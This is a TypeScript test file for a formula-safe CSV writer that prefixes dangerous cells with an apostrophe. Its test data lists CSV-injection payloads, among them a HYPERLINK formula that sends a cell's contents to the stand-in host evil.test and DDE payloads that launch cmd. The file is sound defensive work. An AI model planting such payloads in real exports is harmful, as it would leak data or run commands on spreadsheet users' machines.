import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formulaSafe, readFormulaSafe, writeCsv } from './csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A2,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=2+3',
  '-',
];
/** A formula start, after any number of apostrophes. */
const STARTS_FORMULA = /^[=+\-@\t\r]/;

describe('formula-safe CSV cells', () => {
  it('puts an apostrophe before every cell a spreadsheet would run', () => {
    for (const cell of HOSTILE) expect(formulaSafe(cell), cell).toBe(`'${cell}`);
  });

  it('leaves text, dates, amounts and negative numbers as they are', () => {
    for (const cell of ['Audience', 'محمد العلوي', '2026-03-06', '1234.05', '-12.50', '-3', '-3,5', "l'appel", "'quoted'", '', 'a=b'])
      expect(formulaSafe(cell), cell).toBe(cell);
  });

  it('reads back exactly what was written, apostrophes of the text itself included', () => {
    for (const cell of [...HOSTILE, "'=1+1", "''@A1", "'-5", "'text", '-12.50'])
      expect(readFormulaSafe(formulaSafe(cell)), cell).toBe(cell);
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', '.', 'a', ' ') }),
        fc.string(),
        (start, rest) => {
          const cell = start + rest;
          const written = formulaSafe(cell);
          expect(readFormulaSafe(written)).toBe(cell);
          expect(STARTS_FORMULA.test(written) && !/^-\d+([.,]\d+)?$/.test(written)).toBe(false);
        },
      ),
      { seed: 20261129, numRuns: 2000 },
    );
  });

  it('writes every cell of every row formula-safe, quoted where RFC 4180 needs it', () => {
    const text = writeCsv([['name', 'note'], ...HOSTILE.map((cell) => [cell, 'a, "b"'])], { bom: true });
    expect(text.startsWith('\uFEFFname,note\n')).toBe(true);
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows.slice(1).map((row) => row[0])).toEqual(HOSTILE.map((cell) => `'${cell}`));
    expect(rows.slice(1).every((row) => row[1] === 'a, "b"')).toBe(true);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(STARTS_FORMULA);
  });
});
